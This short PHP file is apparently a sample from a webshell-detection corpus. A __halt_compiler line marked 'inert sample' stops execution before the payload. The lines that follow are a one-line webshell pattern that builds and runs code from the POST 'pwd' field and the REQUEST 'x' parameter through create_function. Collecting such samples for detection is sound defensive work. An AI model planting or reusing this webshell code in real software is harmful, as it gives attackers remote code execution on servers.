<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
$xak = create_function('', $_POST['pwd']);
$f = create_function('', @$_REQUEST['x']);
$f();
